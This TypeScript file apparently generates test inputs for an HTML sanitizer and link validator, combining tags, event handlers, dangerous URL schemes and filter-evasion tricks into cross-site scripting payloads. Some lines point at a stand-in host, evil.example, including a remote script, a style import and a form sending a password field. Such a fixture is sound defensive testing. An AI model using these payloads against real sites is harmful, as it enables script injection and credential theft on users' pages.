// Ways in which markup has been made to run, put together of their parts: elements that load or begin something, the
// handlers that they call, schemes that execute, and the disguises that get each past a list of forbidden words.

const LOADING = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'audio src=x',
  'iframe src=x',
  'object data=x',
  'embed src=x',
];
const TOUCHED = [
  'input autofocus',
  'select autofocus',
  'textarea autofocus',
  'details open',
  'marquee',
  'button',
  'a',
  'div',
];
const HANDLERS = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onstart',
  'onmouseover',
  'onpointerdown',
  'onanimationend',
];
const SCHEMES = [
  'javascript:',
  'data:text/html,',
  'vbscript:',
  'file:',
  'blob:',
  'about:',
  'view-source:',
  'intent:',
];
const PAYLOAD = 'alert(1)';

const DISGUISES: ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase(),
  (text) => [...text].map((sign, at) => (at % 2 ? sign.toUpperCase() : sign)).join(''),
  (text) => text.replaceAll(' ', '/'),
  (text) => `"><${text.replace(/^</, '')}`,
  (text) => `\u0000${text}`,
  (text) => `\u202e${text}`,
  (text) => text.replace('script', 'scr\tipt'),
  (text) => text.replace('script', 'scr\nipt'),
  (text) => ` \u0001\u00a0${text}`,
];

const elements = [...LOADING, ...TOUCHED].flatMap((element) =>
  HANDLERS.map((handler) => `<${element} ${handler}=${PAYLOAD}>`),
);
const addresses = SCHEMES.flatMap((scheme) => DISGUISES.map((disguise) => disguise(`${scheme}${PAYLOAD}`)));
const scripts = [
  `<script>${PAYLOAD}</script>`,
  '<script src=//evil.example></script>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mi><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style>@import "//evil.example";</style>',
  '<link rel=stylesheet href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href=//evil.example>',
  '<form action=//evil.example><input name=password></form>',
  '<template><img src=x onerror=alert(1)></template>',
  '<img src="https://evil.example/track.png">',
  '<p style="background:url(//evil.example)">',
  '</p></article><script>alert(1)</script>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '{{constructor.constructor("alert(1)")()}}',
  ['$', '{alert(1)}'].join(''),
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
];

/** Texts that are markup elsewhere. */
export const MARKUP: readonly string[] = [...elements, ...scripts].flatMap((text, at) => [
  text,
  ...[1, 3, 4, 5].map((turn) => DISGUISES[(at + turn) % DISGUISES.length]?.(text) ?? text),
]);

/** Addresses that a link must not lead to. */
export const ADDRESSES: readonly string[] = [
  ...addresses,
  ...[
    '//evil.example',
    '/admin',
    '../x',
    '#x',
    '',
    ' ',
    'https:',
    'http://',
    'mailto',
    'https://good.example@evil.example/',
  ],
  ...[
    'jar:https://evil.example!/',
    'java script:alert(1)',
    'ftp://evil.example',
    'javascript&colon;alert(1)',
  ],
];
